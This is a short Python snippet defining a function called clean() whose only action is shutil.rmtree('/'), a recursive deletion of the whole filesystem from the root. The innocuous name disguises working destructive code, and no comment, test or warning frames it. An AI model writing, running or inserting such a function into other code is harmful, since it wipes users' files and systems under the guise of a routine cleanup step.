def clean():
    import shutil

    shutil.rmtree("/")
